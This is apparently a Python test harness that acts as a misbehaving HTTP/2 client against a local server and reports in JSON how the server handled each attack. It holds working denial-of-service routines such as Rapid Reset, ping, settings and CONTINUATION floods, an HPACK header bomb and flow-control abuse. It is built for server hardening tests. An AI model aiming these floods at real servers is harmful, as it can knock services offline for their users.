"""A peer that speaks HTTP/2 as nobody should: one attack on 127.0.0.1:PORT, and then a line of JSON that says what came of it."""
import json
import socket
import sys
import time

from h2.connection import H2Connection
from hpack import Encoder
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame, PushPromiseFrame,
                              RstStreamFrame, SettingsFrame, WindowUpdateFrame)

PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
GET = [(':method', 'GET'), (':scheme', 'http'), (':path', '/'), (':authority', '127.0.0.1')]
BIG = [(':method', 'GET'), (':scheme', 'http'), (':path', '/big'), (':authority', '127.0.0.1')]
POST = [(':method', 'POST'), (':scheme', 'http'), (':path', '/sink'), (':authority', '127.0.0.1')]


class Peer:
    def __init__(self, port):
        self.socket = socket.create_connection(('127.0.0.1', port))
        self.socket.settimeout(20)
        self.encoder = Encoder()
        self.frames = []
        self.pending = b''
        self.closed = False
        self.sent = 0

    def raw(self, data):
        """Writes, and reads what is there so that neither side waits for the other."""
        try:
            self.socket.sendall(data)
            self.read(0)
        except OSError:
            self.closed = True
            self.drain()

    def send(self, *frames):
        if not self.closed:
            self.sent += len(frames)
            self.raw(b''.join(frame.serialize() for frame in frames))

    def begin(self, settings=None):
        self.raw(PREFACE + SettingsFrame(0, settings or {}).serialize())

    def headers(self, stream, fields, *flags):
        frame = HeadersFrame(stream, self.encoder.encode(fields))
        return flagged(frame, *(flags or ('END_HEADERS', 'END_STREAM')))

    def read(self, timeout):
        self.socket.settimeout(timeout) if timeout else self.socket.setblocking(False)
        try:
            data = self.socket.recv(65536)
            self.closed = self.closed or data == b''
            self.pending += data
            self.parse()
        except (BlockingIOError, TimeoutError):
            return
        except OSError:
            self.closed = True
        finally:
            self.socket.settimeout(20)

    def drain(self):
        """What is still to be read of a connection that the other side has closed."""
        try:
            while data := self.socket.recv(65536):
                self.pending += data
        except OSError:
            pass
        self.parse()

    def parse(self):
        while len(self.pending) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.pending[:9]))
            if len(self.pending) < 9 + length:
                return
            frame.parse_body(memoryview(self.pending[9:9 + length]))
            self.pending = self.pending[9 + length:]
            self.frames.append(frame)
            self.heard(frame)

    def heard(self, frame):
        if isinstance(frame, SettingsFrame) and 'ACK' not in frame.flags:
            try:
                self.socket.settimeout(20)
                self.socket.sendall(flagged(SettingsFrame(0), 'ACK').serialize())
            except OSError:
                self.closed = True

    def until(self, reached, seconds=15):
        end = time.monotonic() + seconds
        while not self.closed and not reached() and time.monotonic() < end:
            self.read(0.1)

    def of(self, kind):
        return [frame for frame in self.frames if isinstance(frame, kind)]

    def end(self):
        """Waits for the other side to close."""
        self.until(lambda: False)
        goaways = [frame.error_code for frame in self.of(GoAwayFrame)]
        print(json.dumps({
            'closed': self.closed,
            'goaway': goaways[-1] if goaways else None,
            'resets': [frame.error_code for frame in self.of(RstStreamFrame)],
            'sent': self.sent,
        }))


def flagged(frame, *flags):
    for flag in flags:
        frame.flags.add(flag)
    return frame


class Stubborn(Peer):
    """Answers no SETTINGS."""

    def heard(self, frame):
        pass


def rapid_reset(peer):
    peer.begin()
    for stream in range(1, 20001, 2):
        peer.send(peer.headers(stream, GET), RstStreamFrame(stream, error_code=8))


def resets_by_fault(peer):
    """Makes the server reset its own streams: a WINDOW_UPDATE of nothing is an error of the stream."""
    peer.begin()
    for stream in range(1, 20001, 2):
        peer.send(peer.headers(stream, POST, 'END_HEADERS'), WindowUpdateFrame(stream, window_increment=0))


def settings_flood(peer):
    peer.begin()
    for value in range(20000):
        peer.send(SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: 65535 + value % 2}))


def ping_flood(peer):
    peer.begin()
    for number in range(20000):
        peer.send(PingFrame(0, number.to_bytes(8, 'big')))


def unread_flood(peer):
    """Reads none of the answers to its pings."""
    peer.begin()
    flood = b''.join(PingFrame(0, number.to_bytes(8, 'big')).serialize() for number in range(20000))
    try:
        for _ in range(20):
            peer.socket.sendall(flood)
            peer.sent += 20000
    except OSError:
        peer.closed = True
        peer.drain()


def header_bomb(peer):
    """One field of 4,000 bytes in the table, and 16,000 mentions of it, a byte each."""
    peer.begin()
    peer.send(peer.headers(1, GET + [('x-bomb', 'b' * 4000)]))
    for stream in range(3, 4003, 2):
        peer.send(bomb(peer, stream))


def bomb(peer, stream):
    frame = HeadersFrame(stream, peer.encoder.encode(GET) + bytes([0x80 | 62]) * 16000)
    return flagged(frame, 'END_HEADERS', 'END_STREAM')


def one_bomb(peer):
    peer.begin()
    peer.send(peer.headers(1, GET + [('x-bomb', 'b' * 4000)]), bomb(peer, 3))
    peer.until(lambda: len(peer.of(RstStreamFrame)) > 0)


def long_headers(peer):
    """The bound is a setting: it holds once it was acknowledged."""
    peer.begin()
    peer.until(lambda: len(peer.of(SettingsFrame)) > 1)
    fields = [(f'x-{number}', 'm' * 2000) for number in range(9)]
    block = peer.encoder.encode(GET + fields, huffman=False)
    cut = len(block) // 2
    peer.send(flagged(HeadersFrame(1, block[:cut]), 'END_STREAM'), flagged(ContinuationFrame(1, block[cut:]), 'END_HEADERS'))
    peer.until(lambda: len(peer.of(RstStreamFrame)) > 0)


def heavy_streams(peer):
    """Asks for a megabyte again and again, and takes none of them."""
    peer.begin({SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    peer.until(lambda: len(peer.of(SettingsFrame)) > 1)
    for stream in range(1, 41, 2):
        peer.send(peer.headers(stream, BIG))
        peer.until(lambda: any(frame.stream_id == stream for frame in peer.frames), 2)


def continuation_flood(peer):
    peer.begin()
    peer.send(peer.headers(1, GET, 'END_STREAM'))
    for _ in range(20000):
        peer.send(ContinuationFrame(1, peer.encoder.encode([('x-more', 'm' * 1000)], huffman=False)))


def empty_frames(peer):
    peer.begin()
    peer.send(peer.headers(1, POST, 'END_HEADERS'))
    for _ in range(20000):
        peer.send(DataFrame(1))


def window_zero(peer):
    peer.begin({SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    peer.send(*[peer.headers(stream, BIG) for stream in range(1, 21, 2)])


def window_overflow(peer):
    peer.begin()
    for _ in range(3):
        peer.send(WindowUpdateFrame(0, window_increment=2 ** 31 - 1))


def many_streams(peer):
    """Streams that never end, one after the other over what SETTINGS allow."""
    peer.begin()
    peer.until(lambda: len(peer.of(SettingsFrame)) > 0)
    peer.send(*[peer.headers(stream, POST, 'END_HEADERS') for stream in range(1, 31, 2)])


def endless_streams(peer):
    peer.begin()
    peer.send(*[peer.headers(stream, POST, 'END_HEADERS') for stream in range(1, 11, 2)])


def half_preface(peer):
    peer.raw(PREFACE[:10])


def no_request(peer):
    peer.begin()


def half_headers(peer):
    peer.begin()
    peer.until(lambda: len(peer.of(SettingsFrame)) > 1)
    frame = peer.headers(1, GET).serialize()
    peer.raw(frame[:len(frame) - 3])


def unfinished_headers(peer):
    peer.begin()
    peer.until(lambda: len(peer.of(SettingsFrame)) > 1)
    peer.send(peer.headers(1, GET, 'END_STREAM'))


def idle(peer):
    peer.begin()
    peer.send(peer.headers(1, GET))


def no_ack(peer):
    peer.begin()
    peer.send(peer.headers(1, [(':path', '/held') if name == ':path' else (name, value) for name, value in GET]))


def pushes(peer):
    peer.begin()
    push = PushPromiseFrame(1, promised_stream_id=2, data=peer.encoder.encode(GET))
    peer.send(peer.headers(1, POST, 'END_HEADERS'), flagged(push, 'END_HEADERS'))


def garbage(peer):
    peer.raw(PREFACE + bytes(range(256)) * 200)


def large_frame(peer):
    peer.begin()
    peer.raw(bytes([0xff, 0xff, 0xff, 0, 0, 0, 0, 0, 1]) + b'x' * 1000)


def sockets_reset(peer):
    """Asks for one WebSocket after the other, and breaks it off."""
    peer.begin()
    fields = [(':method', 'CONNECT'), (':protocol', 'websocket'), (':scheme', 'http'), (':path', '/'),
              (':authority', '127.0.0.1'), ('sec-websocket-version', '13')]
    for stream in range(1, 20001, 2):
        peer.send(peer.headers(stream, fields, 'END_HEADERS'), RstStreamFrame(stream, error_code=8))


def in_order(peer):
    """A client that keeps to the rules, by the machine of h2."""
    machine = H2Connection()
    machine.initiate_connection()
    peer.raw(machine.data_to_send())
    for stream in range(1, 401, 2):
        machine.send_headers(stream, GET, end_stream=True)
        peer.raw(machine.data_to_send())
        peer.until(lambda: any('END_STREAM' in frame.flags for frame in peer.frames if frame.stream_id == stream))
    machine.close_connection()
    peer.raw(machine.data_to_send())


attack = globals()[sys.argv[2].replace('-', '_')]
peer = (Stubborn if attack in (no_ack, half_preface) else Peer)(int(sys.argv[1]))
attack(peer)
peer.end()
